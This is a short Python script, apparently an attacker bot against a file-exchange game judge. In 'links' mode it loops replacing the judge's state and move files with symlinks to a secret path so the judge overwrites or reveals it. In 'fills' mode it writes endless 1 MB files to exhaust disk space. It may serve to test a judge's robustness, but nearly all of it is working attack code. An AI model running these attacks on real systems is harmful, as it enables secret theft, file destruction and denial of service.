"""A bot that speaks hexfile and attacks through the folder in which files are exchanged:

python hexfile_attacker.py links|fills FOLDER SECRET
"""

import os
import sys
import time


def main(attack: str, folder: str, secret: str) -> None:
    os.chdir(folder)
    if attack == "links":
        """The judge is to write over the secret, and to read it out."""
        while True:
            for name in ("state.part", "state_1.txt", "move_1.txt"):
                try:
                    if os.path.lexists(name):
                        os.unlink(name)
                    os.symlink(secret, name)
                except OSError:
                    continue
            time.sleep(0.0001)
    number = 0
    while True:
        number += 1
        with open(f"file{number}", "wb") as file:
            file.write(b"x" * 1_000_000)


if __name__ == "__main__":
    main(*sys.argv[1:4])
